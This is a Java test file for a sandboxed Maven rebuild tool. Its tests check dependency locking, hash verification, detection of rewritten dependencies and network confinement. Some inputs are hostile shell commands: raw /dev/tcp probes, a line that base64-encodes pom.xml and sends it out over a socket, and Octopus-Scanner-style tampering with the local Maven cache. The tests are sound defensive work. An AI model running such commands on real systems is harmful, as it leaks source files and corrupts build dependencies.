package dev.assay.rebuilder;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.assay.core.artifact.Digest;
import dev.assay.core.failure.AssayException;
import dev.assay.core.lock.DependencyLock;
import dev.assay.core.lock.LockedFile;
import dev.assay.core.result.Condition;
import dev.assay.rebuilder.Repository.Project;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Builds with Maven in the sandbox that read from a repository of the test's own. */
class LockerTest {
  private static final String GROUP = "org.example.demo";
  private static final String EXTENSION = Repository.place("org.other", "ext", "1") + ".jar";
  private static final String PARENT = Repository.place("org.other", "parent", "1") + ".pom";

  @TempDir Path folder;
  private Repository repository;
  private Bench bench;

  @BeforeEach
  void open() throws IOException {
    repository = new Repository();
    repository.jar("org.other", "ext", "1");
    repository.pom("org.other", "parent", "1", "pom");
    bench = new Bench(folder);
    bench.useMaven("3.9.12");
    bench.repositories = List.of(repository.url());
    project(
        Project.parent("org.other", "parent", "1") + Project.extension("org.other", "ext", "1"));
  }

  @AfterEach
  void close() {
    repository.close();
  }

  private void project(String more) throws IOException {
    Files.writeString(bench.source.resolve("pom.xml"), Project.pom(GROUP, "demo", "1.2", more));
  }

  private static Digest locked(DependencyLock lock, String path) {
    return Objects.requireNonNull(lock.byPath().get(path)).digest();
  }

  private Path blob(DependencyLock lock, String path) {
    String digest = locked(lock, path).sha256();
    return folder.resolve("store/sha256").resolve(digest.substring(0, 2)).resolve(digest);
  }

  @Test
  void aBuildReadsWhatIsLockedAndNothingElse() throws Exception {
    // Loopback is the sandbox's own, in the first build as well.
    String command = "! bash -c '</dev/tcp/127.0.0.1/" + repository.port() + "' && mvn validate";
    DependencyLock lock = bench.record(command).lock();
    assertThat(lock.byPath())
        .containsOnlyKeys(EXTENSION, EXTENSION.replace(".jar", ".pom"), PARENT);
    assertThat(lock.files())
        .allSatisfy(
            file ->
                assertThat(file.digest()).isEqualTo(Digest.of(repository.content(file.path()))));
    assertThat(repository.asked).containsOnlyOnce(EXTENSION);

    repository.close();
    Rebuild rebuild = bench.build(command, lock);
    assertThat(rebuild.outputs()).hasSize(1);
    assertThat(rebuild.conditions()).extracting(Condition::id).containsExactly("host-rootfs");
  }

  @Test
  void aBuildWithoutAToolHasNoNetwork() throws Exception {
    bench.tool = new dev.assay.core.spec.Environment.Tool("none", "");
    bench.outputs = List.of("x");
    bench.rebuild("! bash -c '</dev/tcp/127.0.0.1/" + repository.port() + "' && touch x");
    assertThat(repository.asked).isEmpty();
  }

  @Test
  void theReleaseIsNoDependencyOfItself() throws Exception {
    repository.jar(GROUP, "demo", "1.2");
    project(Project.extension(GROUP, "demo", "1.2"));
    assertThatThrownBy(() -> bench.record("mvn validate"))
        .isInstanceOf(AssayException.Dependency.class)
        .hasMessageContaining("org.example.demo:demo")
        .hasMessageContaining("belongs to the release itself");
    assertThat(repository.asked).isEmpty();

    DependencyLock lock = lockOf(Repository.place(GROUP, "demo", "1.2") + ".jar");
    assertThatThrownBy(() -> bench.build("mvn validate", lock))
        .isInstanceOf(AssayException.Dependency.class)
        .hasMessageContaining("the lock is refused: org.example.demo:demo:1.2 belongs to");
  }

  @Test
  void aSiblingIsNotTakenFromWhatIsPublished() throws Exception {
    repository.jar(GROUP, "lib", "1.2");
    project(
        "<packaging>pom</packaging><modules><module>lib</module><module>tool</module></modules>");
    module("lib", "");
    module("tool", Project.extension(GROUP, "lib", "1.2"));
    assertThatThrownBy(() -> bench.record("mvn -pl tool validate"))
        .isInstanceOf(AssayException.Dependency.class)
        .hasMessageContaining("org.example.demo:lib:1.2 belongs to the release itself")
        .hasMessageContaining("-am");
    assertThat(repository.asked).isEmpty();
    DependencyLock lock = lockOf(Repository.place(GROUP, "lib", "1.2") + ".jar");
    assertThatThrownBy(() -> bench.build("mvn -pl tool validate", lock))
        .hasMessageContaining("the lock is refused: org.example.demo:lib:1.2");
  }

  private void module(String name, String more) throws IOException {
    Path place = Files.createDirectories(bench.source.resolve(name));
    Files.writeString(place.resolve("pom.xml"), Project.pom(GROUP, name, "1.2", more));
  }

  private DependencyLock lockOf(String path) {
    byte[] bytes = repository.content(path);
    return new DependencyLock(
        "pkg:maven/org.example.demo/demo@1.2",
        List.of(DependencyLock.Repository.of(repository.url())),
        List.of(new LockedFile(repository.url(), path, Digest.of(bytes), bytes.length)));
  }

  /** The published file under another name: known by its digest once the build has made it. */
  @Test
  void whatTheBuildMakesIsNoDependencyEither() throws Exception {
    DependencyLock lock = bench.record("mvn validate").lock();
    List<LockedFile> files = new ArrayList<>(lock.files());
    byte[] pom = Files.readAllBytes(bench.source.resolve("pom.xml"));
    String copy = "org/zzz/copy/1/copy-1.pom";
    files.add(new LockedFile(repository.url(), copy, Digest.of(pom), pom.length));
    repository.files.put(copy, pom);
    DependencyLock with = new DependencyLock(lock.release(), lock.repositories(), files);
    assertThatThrownBy(() -> bench.build("mvn validate", with))
        .isInstanceOf(AssayException.Dependency.class)
        .hasMessageContaining(copy + " is demo-1.2.pom of the release under another name");
  }

  @Test
  void aLockedFileIsHashedBeforeItIsUsed() throws Exception {
    DependencyLock lock = bench.record("mvn validate").lock();
    Path blob = blob(lock, EXTENSION);
    String expected = locked(lock, EXTENSION).toString();

    Files.delete(blob);
    assertThat(bench.build("mvn validate", lock).outputs()).as("fetched again").hasSize(1);

    Files.delete(blob);
    Files.writeString(blob, "tampered");
    assertThatThrownBy(() -> bench.build("mvn validate", lock))
        .isInstanceOf(AssayException.Dependency.class)
        .hasMessageContaining(EXTENSION)
        .hasMessageContaining(expected)
        .hasMessageContaining(Digest.of(blob).toString());

    Files.delete(blob);
    repository.files.put(EXTENSION, new byte[] {1});
    assertThatThrownBy(() -> bench.build("mvn validate", lock))
        .isInstanceOf(AssayException.Dependency.class)
        .hasMessageContaining(EXTENSION + " changed at its origin")
        .hasMessageContaining(expected)
        .hasMessageContaining(Digest.of(new byte[] {1}).toString());

    repository.files.remove(EXTENSION);
    assertThatThrownBy(() -> bench.build("mvn validate", lock))
        .isInstanceOf(AssayException.Dependency.class)
        .hasMessageContaining("does not have it any more");

    bench.repositories = List.of("central");
    assertThatThrownBy(() -> bench.build("mvn validate", lock))
        .isInstanceOf(AssayException.Dependency.class)
        .hasMessageContaining("repositories: [central, " + repository.url() + "]");
  }

  /** As the Octopus Scanner did. */
  @Test
  void aDependencyThatTheBuildRewritesIsNamed() throws Exception {
    DependencyLock lock = bench.record("mvn validate").lock();
    Rebuild rebuild =
        bench.build(
            "mvn validate && cd ~/.m2/repository && echo evil >> "
                + EXTENSION
                + " && ln -sf /etc/hostname "
                + PARENT,
            lock);
    assertThat(rebuild.conditions())
        .filteredOn(Condition.DependencyRewritten.class::isInstance)
        .extracting(Condition::text)
        .satisfiesExactly(
            jar -> assertThat(jar).contains("its copy of " + EXTENSION).contains("more than"),
            pom -> assertThat(pom).contains("its copy of " + PARENT).contains("a link"));
    rebuild =
        bench.build(
            "mvn validate && cd ~/.m2/repository && printf X | dd conv=notrunc of=" + EXTENSION,
            lock);
    assertThat(rebuild.conditions())
        .filteredOn(Condition.DependencyRewritten.class::isInstance)
        .extracting(Condition::text)
        .singleElement()
        .asString()
        .contains("locked is " + locked(lock, EXTENSION) + ", found sha256:");
  }

  @Test
  void whatNoRepositoryHasIsNamedWithWhatHelps() throws Exception {
    repository.files.remove(PARENT);
    Path module = Files.createDirectories(bench.source.resolve("unused"));
    Files.writeString(
        module.resolve("pom.xml"),
        "<project><distributionManagement><repository><url>https://a.example.org</url></repository>"
            + "</distributionManagement><repositories><repository><id>x</id>"
            + "<url>https://user:secret@b.example.org/m2</url></repository></repositories>");
    assertThatThrownBy(() -> bench.record("mvn validate"))
        .isInstanceOf(AssayException.Dependency.class)
        .hasMessageContaining("org.other:parent:pom:1: not in " + repository.url())
        .hasMessageContaining("repositories: [central, URL]; POMs name https://b.example.org/m2\n");
    assertThatThrownBy(() -> bench.build("mvn validate", lockOf(EXTENSION)))
        .isInstanceOf(AssayException.Dependency.class)
        .hasMessageContaining("org.other:parent:pom:1: not in the lock")
        .hasMessageContaining("assay lock");
  }

  /** A build that knows the way out of the sandbox. */
  @Test
  void nothingButPathsOfARepositoryIsAskedFor() throws Exception {
    String ask =
        "bash -c \"exec 3<>/dev/tcp/127.0.0.1/39391; printf \\\"GET /source/%s HTTP/1.0\\r\\n\\r\\n\\\""
            + " `base64 -w0 pom.xml | head -c 40` >&3; head -1 <&3\"";
    bench.record(ask + " && mvn validate");
    assertThat(repository.asked).isNotEmpty().noneMatch(path -> path.startsWith("source"));
  }

  @Test
  void aSnapshotIsRefused() throws Exception {
    repository.pom("org.other", "parent", "1-SNAPSHOT", "pom");
    project(Project.parent("org.other", "parent", "1-SNAPSHOT"));
    assertThatThrownBy(() -> bench.record("mvn validate"))
        .isInstanceOf(AssayException.Dependency.class)
        .hasMessageContaining("org.other:parent:pom:1-SNAPSHOT")
        .hasMessageContaining("a SNAPSHOT is another file every day");
    assertThat(repository.asked).isEmpty();
  }
}
